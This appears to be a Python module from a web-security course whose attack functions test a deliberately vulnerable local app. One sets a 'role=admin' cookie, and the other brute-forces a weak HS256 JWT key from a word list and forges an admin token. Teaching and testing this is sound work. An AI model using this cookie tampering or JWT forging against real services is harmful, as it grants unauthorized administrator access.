"""Lesson 05, station 13: a role from a cookie or a weakly signed JWT, against the server's own record."""

from __future__ import annotations

import warnings

import jwt

from ..auth import BOB
from . import attack
from .signed import WORDS


def _admin_page_with_a_role_cookie(app, login: str, admin_page: str) -> bool:
    bob = app.test_client()
    assert bob.post(login, json=BOB).status_code == 200
    bob.set_cookie("role", "admin")  # one line in the browser's devtools
    return bob.get(admin_page).status_code == 200


@attack("/vuln/client-roles/login")
def rewrite_the_role_cookie_it_set(app, target) -> bool:
    admin_page = "/vuln/client-roles/admin" if target.startswith("/vuln") else "/mistakes/roles/admin"
    return _admin_page_with_a_role_cookie(app, target, admin_page)


@attack("/vuln/client-roles/admin")
def send_role_admin(app, target) -> bool:
    login = "/vuln/client-roles/login" if target.startswith("/vuln") else "/sessions/login"
    return _admin_page_with_a_role_cookie(app, login, target)


def _crack_and_promote(app, login: str, admin_page: str) -> bool:
    """Take Bob's token, find its HS256 key in the word list, re-sign it with role admin."""
    client = app.test_client()
    token = client.post(login, json=BOB).json["access_token"]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", jwt.InsecureKeyLengthWarning)  # every word in the list is a short key
        for word in WORDS:
            try:
                claims = jwt.decode(
                    token, word, algorithms=["HS256"], options={"verify_exp": False, "verify_aud": False}
                )
            except jwt.InvalidTokenError:
                continue
            forged = jwt.encode({**claims, "role": "admin"}, word, algorithm="HS256")
            return client.get(admin_page, headers={"Authorization": f"Bearer {forged}"}).status_code == 200
    return False  # not HS256 with a listed key (an EdDSA token has no key to guess)


@attack("/vuln/client-roles/jwt-login")
def crack_the_key_of_the_token_it_issues(app, target) -> bool:
    admin_page = "/vuln/client-roles/jwt-admin" if target.startswith("/vuln") else "/mistakes/roles/admin"
    return _crack_and_promote(app, target, admin_page)


@attack("/vuln/client-roles/jwt-admin")
def a_self_promoted_token(app, target) -> bool:
    login = "/vuln/client-roles/jwt-login" if target.startswith("/vuln") else "/jwt/login"
    return _crack_and_promote(app, login, target)
